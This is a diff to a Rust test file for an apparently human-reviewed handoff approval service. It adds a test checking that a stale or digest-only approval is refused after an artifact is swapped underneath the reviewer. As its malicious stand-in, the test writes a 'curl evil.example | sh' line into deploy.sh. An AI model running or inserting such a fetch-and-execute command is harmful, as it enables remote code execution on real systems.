@@ -4,8 +4,9 @@ use super::*;
 
 // ---- 5. Approving what was not seen -----------------------------------------------------------
 
-/// The reviewer read revision 1; the agent wrote revision 2; an approval of revision 1 answers
-/// 409 with the current revision and decides nothing.
+/// The reviewer read revision 1; the agent wrote revision 2; an approval of revision 1, or of
+/// the content read under the revision now in place, answers 409 with the current revision and
+/// decides nothing.
 #[test]
 fn an_approval_of_a_revision_the_reviewer_did_not_see_is_refused() {
     let mut env = TestEnv::new();
@@ -30,7 +31,7 @@ fn an_approval_of_a_revision_the_reviewer_did_not_see_is_refused() {
     let token = Some(d.token.as_str());
     for stale in [
         json!({"outcome": "approved", "revision": 1}),
-        json!({"outcome": "approved", "handoff_sha256": seen_digest}),
+        json!({"outcome": "approved", "revision": 2, "handoff_sha256": seen_digest}),
     ] {
         let (status, body) = d.post_as(url, token, &stale.to_string());
         assert_eq!(status, 409, "{stale}: {body}");
@@ -211,4 +212,50 @@ fn an_artifact_changed_after_receipt_makes_no_invalid_answer() {
     let (status, body) = d.decide("plan", "changes_requested", "plan.sql changed");
     assert_eq!(status, 200, "{body}");
     assert_eq!(decision(&pending).unwrap()["outcome"], "changes_requested");
+}
+
+/// A to B and back to A: the handoff.json read is in place again, at revision 3, with another
+/// artifact. An approval naming only the digest read cannot tell the two apart, so it is refused
+/// (422, saying the revision is missing) and nothing is approved; one naming the revision read
+/// with it is stale (409).
+#[test]
+fn an_approval_naming_only_the_digest_read_is_refused_when_that_content_came_back() {
+    let mut env = TestEnv::new();
+    let ws = env.ws("alpha");
+    let d = env.start();
+    let mut a = handoff("aba");
+    a["artifacts"] = json!([{ "path": "deploy.sh" }]);
+    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&a));
+    d.wait_until("received", || listed(&d, "aba"));
+    let read = d.read("aba", &d.token).unwrap();
+    let mut b = a.clone();
+    b["title"] = "interim".into();
+    write_atomic(&ws.join("handoff.json"), &bytes(&b));
+    d.wait_until("revision 2", || detail(&d, "aba")["revision"] == 2);
+    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&a));
+    d.wait_until("revision 3", || detail(&d, "aba")["revision"] == 3);
+    assert_eq!(detail(&d, "aba")["handoff_sha256"], read["handoff_sha256"]);
+
+    let url = "/api/v1/handoffs/aba/decision";
+    let token = Some(d.token.as_str());
+    let digest_only = json!({"outcome": "approved", "handoff_sha256": read["handoff_sha256"]});
+    let (status, body) = d.post_as(url, token, &digest_only.to_string());
+    assert_eq!(status, 422, "{body}");
+    let error = body["error"].as_str().unwrap();
+    assert!(error.contains("\"revision\" is missing"), "{error}");
+    let both = json!({"outcome": "approved", "revision": read["revision"],
+        "handoff_sha256": read["handoff_sha256"]});
+    let (status, body) = d.post_as(url, token, &both.to_string());
+    assert_eq!(status, 409, "{body}");
+    assert_eq!(body["revision"], 3, "{body}");
+    // The bulk decision refuses such a line whole, nothing decided.
+    let bulk = json!({"outcome": "approved",
+        "items": [{"key": "aba", "handoff_sha256": read["handoff_sha256"]}]});
+    let (status, body) = d.post_as("/api/v1/decisions", token, &bulk.to_string());
+    assert_eq!(status, 422, "{body}");
+    assert_eq!(detail(&d, "aba")["state"], "pending");
+    assert!(decision(&ws).is_none());
+    assert!(!ws.join("approved/deploy.sh").exists());
 }
